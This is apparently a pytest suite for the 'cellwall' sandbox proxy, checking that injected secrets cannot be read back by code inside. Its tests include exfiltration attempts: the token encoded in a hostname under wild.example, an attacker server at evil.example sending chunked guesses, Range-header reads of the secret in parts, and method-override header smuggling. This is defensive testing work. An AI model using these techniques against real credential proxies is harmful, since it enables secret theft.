"""Code that holds a placeholder and wants the value, by what the proxy says and does (SEC-5, NET-5).

The servers here show back whatever they get: what keeps the value from the code is the proxy alone.
Each attack has its control, in which the server did get the value, or the way was open.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from typing import Any

import pytest

import cellwall
from cellwall.core.outcomes import EventKind
from conftest import audit_records
from outside import Outside, Seen, Site, internet

pytestmark = pytest.mark.only_on("cold", reason="the proxy is outside of cells, and one for both")

VALUE, NEXT, EARLIER = "Gh7_pXq2-hiddenLine.9", "Next-value.of/the-token", "Value-of-yesterday.1"
QUICK = "[vault]\nargon2_memory_kib = 64\nargon2_passes = 1\nargon2_lanes = 1\n"
HOST = "api.test.example"

# Inside: `ask(url, **headers)` and, past every library, `raw(host, port, lines)` by the proxy.
CODE = """
import json, os, socket, urllib.request
token = os.environ.get("TOKEN", "")
def ask(url, data=None, method=None, **headers):
    headers = {name.replace("__", "-"): text for name, text in headers.items()}
    try:
        wanted = urllib.request.Request(url, data, headers, method=method)
        with urllib.request.urlopen(wanted, timeout=60) as answer:
            return [answer.status, str(answer.headers) + answer.read().decode()]
    except urllib.error.HTTPError as error:
        return [error.headers.get("X-Cellwall-Refused") or error.code, error.read().decode()]
    except OSError as error:
        return [str(error), ""]
def raw(host, port, *lines):
    with socket.create_connection(("127.0.0.1", 3128), 60) as line:
        line.sendall("\\r\\n".join((*lines, "", "")).encode())
        return b"".join(iter(lambda: line.recv(65536), b"")).decode("latin-1")
def chunks(host, port):
    with socket.create_connection(("127.0.0.1", 3128), 60) as line:
        line.sendall(f"GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode())
        file, found = line.makefile("rb"), []
        while file.readline().strip(): pass
        while size := int(file.readline(), 16):
            found.append(file.read(size).decode()); file.readline()
        return found
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    with internet(tmp_path_factory.mktemp("outside")) as world:
        yield world


@pytest.fixture
def config(world: Outside, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("SSL_CERT_FILE", world.ca_file)
    return world.config(QUICK)


@pytest.fixture
def vault(config: str) -> Iterator[cellwall.Vault]:
    with cellwall.Vault.open("correct horse battery", create=True, config=config) as vault:
        vault.set("TOKEN", VALUE)
        yield vault


@pytest.fixture
def inside(config: str) -> Callable[..., Any]:
    """What an expression gives inside a cell that has the secret, and these domains."""

    def run(work: str, *rules: str, secrets: tuple[str, ...] = ("TOKEN",)) -> Any:
        done = cellwall.run_code(CODE + work, config=config, allow_domains=rules, secrets=secrets)
        assert done.status.value == "ok", (done.stderr, done.outcome.error)
        return done.value

    return run


def reflect(seen: Seen) -> tuple[int, dict[str, str], bytes]:
    return 200, {}, json.dumps([seen.method, seen.path, seen.headers]).encode()


def granted(world: Outside, vault: cellwall.Vault, reply: Any = reflect, **grant: Any) -> Site:
    site = world.web(HOST, tls=True, reply=reply)
    vault.grant("TOKEN", host=HOST, ports=(site.port,), **grant)
    return site


def got(site: Site, value: str) -> bool:
    """The control: the server did get the value."""
    return any(value in text for seen in site.seen for text in (seen.path, *seen.headers.values()))


@pytest.mark.requirement("SEC-5")
def test_how_an_answer_is_cut_tells_nothing_of_the_value(world, vault, inside):
    """A server of the attacker's sends guesses; what came late was once the right one."""
    site = granted(world, vault)
    guesses = [VALUE[:size] + last for size in (0, 1, 5, 12) for last in (VALUE[size], "~")]
    evil = socket.create_server(("127.0.0.1", 0))
    world.names["evil.example"] = ["127.0.0.1"]

    def serve() -> None:
        with evil.accept()[0] as line:
            line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            line.recv(65536)
            line.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
            for guess in guesses:
                line.sendall(f"{len(guess):x}\r\n{guess}\r\n".encode())
            line.sendall(b"0\r\n\r\n")

    with closing(evil):
        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        port = evil.getsockname()[1]
        work = f"""
[ask("{site.url}/", Authorization=token)[1].count(token), chunks("evil.example", {port})]"""
        shown, seen = inside(work, site.rule, f"evil.example:{port}")
        thread.join(60)
    assert seen == guesses
    assert (got(site, VALUE), shown) == (True, 1), "and the value was in use all the while"


@pytest.mark.requirement("SEC-5", "SEC-3", "SEC-6")
def test_value_that_is_rotated_or_revoked_on_the_way_does_not_come_back(world, vault, config):
    def reply(seen: Seen) -> tuple[int, dict[str, str], bytes]:
        if seen.path == "/revoke":
            vault.revoke("TOKEN")
        shown = "".join(each.headers.get("authorization", "") for each in site.seen)
        return 200, {}, shown.encode()

    site = granted(world, vault, reply)
    ask = f"{CODE}ask('{site.url}%s', Authorization=token)"
    kept = {"config": config, "allow_domains": [site.rule], "secrets": ["TOKEN"]}
    with cellwall.Sandbox.create(**kept) as sandbox:
        first = sandbox.run_code(ask % "/").value
        vault.rotate("TOKEN", NEXT)
        shown = [first, *(sandbox.run_code(ask % path).value for path in ("/", "/revoke", "/"))]
        after = sandbox.run_code(f"{CODE}ask('{site.url}/')").value
    assert got(site, VALUE)
    assert got(site, NEXT)
    assert [status for status, _ in shown] == [200, 200, 200, "CW-VAULT-LEASE-ENDED"]
    assert after[1].count("hfsecret_token_") == 3
    assert not any(value in str([shown, after]) for value in (VALUE, NEXT))


@pytest.mark.requirement("SEC-5", "SEC-6")
def test_value_of_an_earlier_version_does_not_come_back(world, vault, inside):
    vault.rotate("TOKEN", EARLIER)
    vault.rotate("TOKEN", VALUE)
    stored = f"[{EARLIER}|{EARLIER.encode().hex()}|else]".encode()
    site = granted(world, vault, lambda _: (200, {}, stored))
    plain = world.web("plain.test.example", reply=lambda _: (200, {}, stored))
    shown, elsewhere = inside(
        f"[ask('{site.url}/')[1].replace(token, 'T'), "
        f"ask('{plain.url}/')[1].endswith({stored.decode()!r})]",
        *(site.rule, plain.rule),
    )
    assert shown.endswith("[T|T|else]")
    assert elsewhere, "where no secret is bound nothing is searched"


@pytest.mark.requirement("SEC-5")
def test_value_does_not_come_back_in_parts_or_by_another_port(world, vault, inside):
    stored: list[str] = []

    def reply(seen: Seen) -> tuple[int, dict[str, str], bytes]:
        stored.extend([seen.headers["authorization"]] if "authorization" in seen.headers else [])
        part = seen.headers.get("range") or seen.headers.get("request-range")
        if part:
            begin, _, end = part.partition("=")[2].partition("-")
            return 206, {}, stored[-1][int(begin) : int(end) + 1].encode()
        shown = stored[-1][:64] if seen.path == "/cut" else stored[-1]
        return 200, {stored[-1].split()[-1]: "x"} if seen.path == "/name" else {}, shown.encode()

    site = granted(world, vault, reply)
    other = world.web(HOST, reply=reply)
    shown = inside(
        f"""
api, other, port = "{site.url}", "{other.url}", {other.port}
parts = {{"Range": "bytes=0-9", "Request__Range": "bytes=10-99"}}
[ask(api + "/", Authorization="Bearer " + token),
 *(ask(url + "/", **{{name: text}}) for url in (api, other) for name, text in parts.items()),
 raw("{HOST}", port, f"CONNECT {HOST}:{{port}} HTTP/1.1", f"Host: {HOST}:{{port}}", "",
     "GET / HTTP/1.1", f"Host: {HOST}:{{port}}", "Connection: close", ""),
 ask(api + "/name", Authorization=token),
 ask(api + "/cut", Authorization="A" * 54 + token)]""",
        *(site.rule, other.rule),
    )
    assert got(site, VALUE)
    assert [str(each).count("hfsecret_token_") for each in shown[:-1]] == [1] * 7
    assert "A" * 54 + "hfsecret" in str(shown[-1]), "it stays where code has chosen its place"
    small = str(shown).lower()
    assert not any(VALUE.lower()[at : at + 6] in small for at in range(len(VALUE) - 6))


@pytest.mark.requirement("SEC-5", "SEC-3")
def test_header_gives_a_request_no_method_or_path_of_another_grant(world, vault, inside):
    site = granted(world, vault, methods=("POST",))
    vault.grant("TOKEN", host=HOST, ports=(site.port,), methods=("DELETE",), field="x-key")
    names = ("X-HTTP-Method-Override", "X_HTTP_Method_Override", "X_Original_URL", "X-Request-Id")
    statuses = inside(
        f"""
[ask("{site.url}/", b"x", "POST", Authorization=token, X__Key=token, **{{name: "DELETE"}})[0]
 for name in {names!r}]""",
        site.rule,
    )
    assert statuses == ["CW-SECRET-METHOD", "CW-SECRET-METHOD", "CW-BAD-REQUEST", 200]
    assert [(seen.headers["authorization"], seen.headers["x-key"][:8]) for seen in site.seen] == [
        (VALUE, "hfsecret")
    ]


@pytest.mark.requirement("NET-5")
def test_refusals_are_no_oracle_for_the_secrets_of_the_vault(world, vault, inside):
    vault.set("BANK_PIN", "4711")
    plain = world.web("plain.test.example", reply=reflect)
    pins, *guesses = inside(
        f"""
[ask("{plain.url}/?a=4711&b=4712", X__Pin="4711"),
 *(ask("{plain.url}/" + guess) for guess in ["{VALUE}"] * 5 + ["x", "{VALUE}"])]""",
        plain.rule,
        secrets=(),
    )
    assert pins[0] == 200
    assert [status for status, _ in guesses] == ["CW-LEAK"] * 5 + ["CW-LEAK-LIMIT"] * 2
    assert "TOKEN" not in str(guesses)
    assert [seen.path for seen in plain.seen] == ["/?a=4711&b=4712"]
    told = [each["body"] for each in audit_records(kind=EventKind.CONNECTION)]
    assert [b["secret"] for b in told if b["event"] == "leak-refused"] == ["TOKEN"] * 5


@pytest.mark.requirement("NET-5")
def test_value_does_not_leave_as_a_name(world, vault, inside):
    plain = world.web("good.wild.example", reply=reflect)
    world.asked.clear()
    name = VALUE.lower().replace("_", "-")
    vault.set("TOKEN", name)
    found = inside(
        f"""
port = {plain.port}
def by(host):
    try:
        with socket.create_connection((host, port), 20) as line:
            line.sendall(f"GET / HTTP/1.1\\r\\nHost: {{host}}:{{port}}\\r\\n\\r\\n".encode())
            return line.recv(12).decode()
    except OSError as error:
        return "cut"
[[ask(f"http://{{host}}:{{port}}/")[0],
  raw(host, port, f"CONNECT {{host}}:{{port}} HTTP/1.1", f"Host: {{host}}:{{port}}", "",
      "GET / HTTP/1.1", f"Host: {{host}}:{{port}}", "Connection: close", "")[9:12], by(host)]
 for host in ("good.wild.example", "{name}.wild.example")]""",
        f"*.wild.example:{plain.port}",
        secrets=(),
    )
    assert found[0] == [200, "200", "HTTP/1.1 200"]
    assert found[1][:2] == ["CW-LEAK", "403"]
    assert not found[1][2].endswith("200")
    assert set(world.asked) == {"good.wild.example"}


@pytest.mark.requirement("SEC-3")
def test_secret_of_a_project_is_refused_to_another_one(world, vault, config, tmp_path):
    """A live sandbox and a single run; a link to the project is the project, a sibling is not."""
    site = granted(world, vault)
    shop, other = tmp_path / "shop", tmp_path / "other"
    shop.mkdir()
    other.mkdir()
    (tmp_path / "link").symlink_to(shop)
    vault.set("TOKEN", VALUE, project=str(tmp_path / "link"))
    work = CODE + f"ask('https://{HOST}:{site.port}/', Authorization=token)[0]"
    named = {"config": config, "allow_domains": (HOST + f":{site.port}",), "secrets": ("TOKEN",)}
    for where in (None, f"{other}:ro", f"{tmp_path}:ro"):
        with pytest.raises(cellwall.CellwallError) as caught:
            cellwall.run_code(work, workspace=where, **named).raise_for_status()
        assert caught.value.code == "CW-VAULT-OTHER-PROJECT"
        assert str(shop) not in caught.value.message + caught.value.hint
    with cellwall.Sandbox.create(workspace=f"{other}:ro", **named) as live:
        assert live.run_code(work).outcome.error.code == "CW-VAULT-OTHER-PROJECT"
    assert not got(site, VALUE)
    with cellwall.Sandbox.create(workspace=f"{shop}:ro", **named) as live:
        done = live.run_code(work)
        assert (done.status.value, done.value) == ("ok", 200), done.outcome.error
    assert got(site, VALUE)
